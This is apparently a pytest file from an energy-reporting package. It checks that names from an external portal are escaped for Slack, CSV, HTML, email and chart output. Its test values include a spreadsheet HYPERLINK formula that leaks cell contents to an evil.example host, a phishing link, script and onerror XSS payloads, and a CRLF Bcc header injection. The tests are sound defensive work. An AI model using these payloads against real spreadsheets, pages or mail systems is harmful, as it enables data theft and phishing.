"""Names typed in the Eniscope portal reach Slack, CSV, charts, HTML and email escaped (issue 18)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import matplotlib.cbook
import pytest

from argo_energy.alerts import FailureAlert
from argo_energy.eniscope.errors import EniscopeResponseError
from argo_energy.eniscope.parsing import parse_channel, parse_device, parse_each, parse_organization
from argo_energy.escaping import clean_text, csv_cell, mathtext, slack_mrkdwn
from argo_energy.report import charts, figures, render
from argo_energy.report.config import DEFAULT_BUSINESS_HOURS
from argo_energy.report.queries import DailyRow, Meter, Site
from argo_energy.report.week import week_of

PING = "<!channel>"
PHISH = "<https://evil.example/login|Re-enter password>"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
MATH = r"Main $\undefinedcommand{x$ panel"  # unbalanced, unknown command: mathtext raises at save
WEEK = week_of(date(2026, 10, 26), "America/New_York")


def _figures(site_name: str, meter_name: str) -> figures.WeeklyFigures:
    site = Site("17158", site_name, "America/New_York", (Meter(1, meter_name), Meter(2, FORMULA)))
    return figures.compute(
        site=site, week=WEEK, business_hours=DEFAULT_BUSINESS_HOURS,
        daily=[DailyRow(1, date(2026, 10, 26), 12.5, 3.0, 96), DailyRow(2, date(2026, 10, 27), 4.0, 1.0, 96)],
        previous_daily=[], year_ago_daily=[], intervals=[],
    )


def test_slack_report_message_cannot_ping_or_hide_a_link() -> None:
    h = render.headline(_figures(f"{PING} {PHISH} & Co", "Main"))
    text = render.slack_text(h, "file:///reports/17158/r.html")
    assert "<" not in text
    assert ">" not in text
    assert "&lt;!channel&gt;" in text
    assert "&lt;https://evil.example/login|Re-enter password&gt;" in text
    assert "&amp; Co" in text


def test_slack_alert_text_escapes_the_error_line() -> None:
    alert = FailureAlert("dag", "task", "run", None, 1, 2, f"ValueError: channel {PING} {PHISH}", None)
    text = alert.text()
    assert "<" not in text
    assert "&lt;!channel&gt;" in text


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
    rows = list(csv.DictReader(io.StringIO(render.daily_csv(_figures("@SUM(A1:A9)", "+1-800 Main")).decode())))
    assert {r["site_name"] for r in rows} == {"'@SUM(A1:A9)"}
    assert {r["meter_name"] for r in rows} == {"'+1-800 Main", "'" + FORMULA}
    assert {r["site_id"] for r in rows} == {"17158"}
    assert [r["energy_kwh"] for r in rows][:2] == ["12.5", ""], "numbers are not quoted"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=1+1", "'=1+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), (" =x", "' =x"), ("\x01x", "'\x01x"),
     ("Main", "Main"), ("", ""), ("a=b", "a=b")],
)
def test_csv_cell(cell: str, expected: str) -> None:
    assert csv_cell(cell) == expected


def test_html_report_and_email_escape_names() -> None:
    result = _figures(f"{PING} <script>alert(1)</script>", "<img src=x onerror=alert(1)>")
    page = render.report_html(result, charts.daily_chart(result), charts.heatmap_chart(result), datetime.now(UTC))
    email = render.email_html(render.headline(result))
    for html in (page, email):
        assert "<script>" not in html
        assert "<img src=x" not in html
        assert "<!channel>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_chart_draws_a_dollar_name_literally_and_saves() -> None:
    result = _figures("Site", MATH)
    png = charts.daily_chart(result)  # raised ValueError (mathtext) before the escape
    assert png.startswith(b"\x89PNG")
    fig = charts.daily_figure(result)
    labels = [t.get_text() for t in fig.axes[0].get_legend().get_texts()]
    label = next(text for text in labels if "undefinedcommand" in text)
    assert not matplotlib.cbook.is_math_text(label)
    assert label.replace(r"\$", "$") == f"{MATH} (1)", "drawn as the literal name"
    assert mathtext("$5") == r"\$5"


def test_control_characters_are_stripped_when_names_enter_the_system() -> None:
    org = parse_organization({"organizationId": "17158", "organizationName": "Plant\r\nBcc: x@evil.example\u202e",
                              "city": "A\tB", "timeZone": "Europe/London"})
    channel = parse_channel({"dataChannelId": "5", "channelName": "Meter\n1\x00", "organizationId": "17158"})
    device = parse_device({"deviceId": "9", "deviceName": "Gateway\r\n\x85X"})
    assert org.organization_name == "Plant Bcc: x@evil.example"
    assert org.city == "A B"
    assert channel.channel_name == "Meter 1"
    assert device.device_name == "Gateway X"
    with pytest.raises(EniscopeResponseError, match="control characters"):
        parse_organization({"organizationId": "17158\r\nX"})
    subject = render.title({"site_name": "A\r\nBcc: b", "site_id": "1", "week": "2026-W44"})
    assert "\r" not in subject
    assert "\n" not in subject
    assert clean_text(" a \x1b[31m b ") == "a [31m b"


def test_catalog_records_are_parsed_one_by_one() -> None:
    items = [
        {"organizationId": "1", "organizationName": "Good", "timeZone": "Asia/Kolkata"},
        {"organizationId": "2", "organizationName": "Windows zone", "timeZone": "Eastern Standard Time"},
        {"organizationName": "no id"},
    ]
    good, bad = parse_each(items, parse_organization, "organization", "organizationId")
    assert [o.organization_id for o in good] == ["1"]
    assert [(b.record_id, b.reason) for b in bad] == [("2", "malformed"), ("None", "malformed")]
    assert "'Eastern Standard Time' is not an IANA time zone" in bad[0].detail
    devices, bad_devices = parse_each(
        [{"deviceId": "7", "dataReceivedTs": "1793700000000"}, {"deviceId": "8", "dataReceivedTs": "1793700000"}],
        parse_device, "device", "deviceId",
    )
    assert [d.device_id for d in devices] == [8]
    assert [b.record_id for b in bad_devices] == ["7"]
    assert "milliseconds" in bad_devices[0].detail


def test_slack_mrkdwn_escapes_only_the_three_characters() -> None:
    assert slack_mrkdwn("a & <b> *c*") == "a &amp; &lt;b&gt; *c*"
